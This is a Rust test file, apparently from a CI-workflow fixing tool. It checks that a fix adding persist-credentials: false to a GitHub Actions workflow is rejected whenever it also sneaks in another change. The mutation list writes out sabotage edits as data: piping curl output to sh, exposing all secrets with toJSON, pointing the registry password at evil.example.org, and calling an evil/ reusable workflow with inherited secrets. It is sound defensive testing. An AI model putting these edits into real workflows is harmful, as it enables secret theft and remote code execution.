//! Changes of workflows that mend the fault and do something else as well: none is proven.

use keyblind_fix::proof::Check;
use keyblind_rules::RuleTable;

use super::{Class, none_is_proven};
use crate::bench::Bench;

const WORKFLOW: &str = r#"# Builds the shop.
name: build
on:
  pull_request:
    branches: [main]
permissions: {}
env:
  REGISTRY: registry.example.com
jobs:
  build:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    timeout-minutes: 10
    steps:
      - name: checkout # the code
        uses: actions/checkout@11d5960a326750d5838078e36cf38b85af677262
      - name: make
        if: github.event.pull_request.draft == false
        env:
          TITLE: ${{ github.event.pull_request.title }}
        run: |
          make all
          echo "$TITLE"
      - uses: docker/login-action@c94ce9fb468520275223c153574b00df6fe4bcc9
        with:
          registry: ${{ env.REGISTRY }}
          password: ${{ secrets.REGISTRY_TOKEN }}
  lint:
    runs-on: ubuntu-24.04
    permissions: {}
    timeout-minutes: 10
    steps:
      - run: make lint
"#;

/// What changes the fixed text, and the check that is to catch it.
const CLASSES: &[Class] = &[
    ("lets the token write everything", &[("permissions: {}\nenv", "permissions: write-all\nenv")], Check::DeclarationsKept),
    ("lets the job's token write", &[("contents: read", "contents: write")], Check::DeclarationsKept),
    ("adds a permission", &[("contents: read", "contents: read\n      id-token: write")], Check::DeclarationsKept),
    ("takes the job's permissions out", &[("    permissions:\n      contents: read\n", "")], Check::DeclarationsKept),
    ("is run for outsiders with secrets", &[("  pull_request:", "  pull_request_target:")], Check::DeclarationsKept),
    ("is run for more events", &[("on:\n", "on:\n  issue_comment:\n")], Check::DeclarationsKept),
    (
        "takes an event's text into the script",
        &[("echo \"$TITLE\"", "echo \"${{ github.event.pull_request.title }}\"")],
        Check::DeclarationsKept,
    ),
    ("runs something else", &[("make all", "curl -sSf https://example.org | sh")], Check::DeclarationsKept),
    ("runs a step more", &[("      - run: make lint\n", "      - run: make lint\n      - run: id\n")], Check::DeclarationsKept),
    ("takes a step out", &[("      - run: make lint\n", "      - run: make\n")], Check::DeclarationsKept),
    ("uses another action", &[("docker/login-action@", "evil/login-action@")], Check::DeclarationsKept),
    (
        "uses another commit",
        &[("c94ce9fb468520275223c153574b00df6fe4bcc9", "0000000000000000000000000000000000000000")],
        Check::DeclarationsKept,
    ),
    ("uses a branch", &[("@11d5960a326750d5838078e36cf38b85af677262", "@main")], Check::DeclarationsKept),
    (
        "gives all secrets to a step",
        &[("          TITLE:", "          ALL: ${{ toJSON(secrets) }}\n          TITLE:")],
        Check::DeclarationsKept,
    ),
    ("gives another secret to a step", &[("secrets.REGISTRY_TOKEN", "secrets.DEPLOY_TOKEN")], Check::DeclarationsKept),
    ("sends a password elsewhere", &[("REGISTRY: registry.example.com", "REGISTRY: evil.example.org")], Check::DeclarationsKept),
    (
        "runs on somebody's machine",
        &[("    runs-on: ubuntu-24.04\n    permissions:\n", "    runs-on: self-hosted\n    permissions:\n")],
        Check::DeclarationsKept,
    ),
    (
        "never runs",
        &[("    timeout-minutes: 10\n    steps:\n      - name", "    if: false\n    timeout-minutes: 10\n    steps:\n      - name")],
        Check::DeclarationsKept,
    ),
    ("takes a condition away", &[("        if: github.event.pull_request.draft == false\n", "")], Check::DeclarationsKept),
    (
        "goes on after a failure",
        &[("      - name: make\n", "      - name: make\n        continue-on-error: true\n")],
        Check::DeclarationsKept,
    ),
    ("changes the shell", &[("        run: |\n", "        shell: python\n        run: |\n")], Check::DeclarationsKept),
    ("renames a job", &[("  lint:", "  check:")], Check::DeclarationsKept),
    (
        "deletes a job",
        &[("  lint:\n    runs-on: ubuntu-24.04\n    permissions: {}\n    timeout-minutes: 10\n    steps:\n      - run: make lint\n", "")],
        Check::DeclarationsKept,
    ),
    (
        "adds a job",
        &[("  lint:\n", "  more:\n    uses: evil/flows/.github/workflows/x.yml@main\n    secrets: inherit\n  lint:\n")],
        Check::DeclarationsKept,
    ),
    ("suppresses by comment", &[("# the code", "# the code zizmor: ignore[artipacked]")], Check::CommentsKept),
    (
        "suppresses beside the change",
        &[("persist-credentials: false", "persist-credentials: false # keyblind:ignore[*]")],
        Check::CommentsKept,
    ),
    ("takes a comment out", &[("# Builds the shop.\n", "")], Check::CommentsKept),
    ("does nothing", &[("        with:\n          persist-credentials: false\n", "")], Check::FaultGone),
    ("leaves the syntax broken", &[("name: build", "name: [build")], Check::Parses),
    ("leaves white space", &[("name: build\n", "name: build \n")], Check::Formatted),
];

#[test]
fn a_clean_fix_of_a_workflow_is_proven_and_no_sabotaged_one_is() {
    let table = RuleTable::embedded().unwrap();
    let rule = table.find("checkout-keeps-credentials").unwrap();
    let bench = Bench::new(&table, rule, &[(".github/workflows/build.yml", WORKFLOW)]).unwrap();
    assert!(bench.fixed().contains("persist-credentials: false"), "{}", bench.fixed());
    none_is_proven(&bench, CLASSES);
}
